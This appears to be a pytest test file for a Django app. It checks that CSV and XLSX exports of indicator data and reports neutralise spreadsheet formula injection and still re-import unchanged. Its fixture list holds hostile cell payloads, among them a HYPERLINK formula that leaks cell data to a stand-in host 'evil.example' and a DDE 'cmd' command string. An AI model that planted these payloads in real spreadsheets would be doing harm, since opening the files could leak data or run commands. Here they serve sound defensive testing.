"""Every export neutralises spreadsheet formulas, and an export still re-imports unchanged."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command

from csp.models import Area
from indicators.models import Indicator, MonthValue
from submissions.imports.month_values import month_values_import
from submissions.models import PackVersion
from submissions.packs.exports import pack_export

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2017, 2, 1, 9, 0, tzinfo=dt.UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by hand",
    "- see the note from the police",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _store_reasons(texts: list[str]) -> None:
    barnet = Area.objects.get(name="Barnet")
    tno = Indicator.objects.get(code="tno")
    for i, text in enumerate(texts):
        MonthValue.objects.create(
            indicator=tno,
            area=barnet,
            month=dt.date(2010, 1 + i, 1),
            status="not_available",
            reason=text,
        )


@pytest.fixture
def hostile_reasons() -> None:
    _store_reasons(HOSTILE)


def _formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _live_csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(STARTS) and not _plain_number(cell)
    ]


def test_export_month_values_writes_no_formula_into_an_xlsx(
    hostile_reasons, tmp_path: Path
) -> None:
    path = tmp_path / "barnet.xlsx"
    call_command("export_month_values", str(path), "--area", "E09000003")
    content = path.read_bytes()
    assert _formula_cells(content) == []
    reasons = [row[8] for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True)]
    assert "'" + HOSTILE[0] in reasons


def test_export_month_values_writes_no_live_formula_into_a_csv(
    hostile_reasons, tmp_path: Path
) -> None:
    path = tmp_path / "barnet.csv"
    call_command("export_month_values", str(path), "--area", "E09000003")
    assert _live_csv_cells(path.read_bytes()) == []


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_neutralised_export_re_imports_unchanged(tmp_path: Path, suffix: str) -> None:
    # XML turns a carriage return into a line feed (openpyxl writes it raw), so an XLSX cannot
    # carry one back whatever its first character.
    texts = HOSTILE if suffix == "csv" else [t for t in HOSTILE if "\r" not in t]
    _store_reasons(texts)
    path = tmp_path / f"barnet.{suffix}"
    call_command("export_month_values", str(path), "--area", "E09000003")
    report = month_values_import(
        content=path.read_bytes(), filename=path.name, user=None, now=NOW, dry_run=True
    )
    assert (report.created, report.updated) == (0, 0)
    reasons = set(
        MonthValue.objects.filter(area__name="Barnet", status="not_available").values_list(
            "reason", flat=True
        )
    )
    assert reasons == set(texts)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_pack_exports_write_no_formula_and_keep_negative_numbers_as_numbers(fmt: str) -> None:
    snapshot = copy.deepcopy(PackVersion.objects.get(round__month="2016-12-01", number=1).snapshot)
    page = snapshot["indicators"][0]
    page["rag_override_justification"] = HOSTILE[0]
    page["rag_reason"] = HOSTILE[3]
    page["months"][0]["reason"] = HOSTILE[1]
    content = pack_export(snapshot, fmt)
    if fmt == "xlsx":
        assert _formula_cells(content) == []
        numbers = [
            cell
            for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(
                values_only=True
            )
            for cell in row
            if isinstance(cell, int | float)
        ]
        assert any(n < 0 for n in numbers)  # e.g. burglary's -21% change stays a number
    else:
        assert _live_csv_cells(content) == []
        assert any(
            c.startswith("-") and _plain_number(c)
            for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
            for c in row
        )
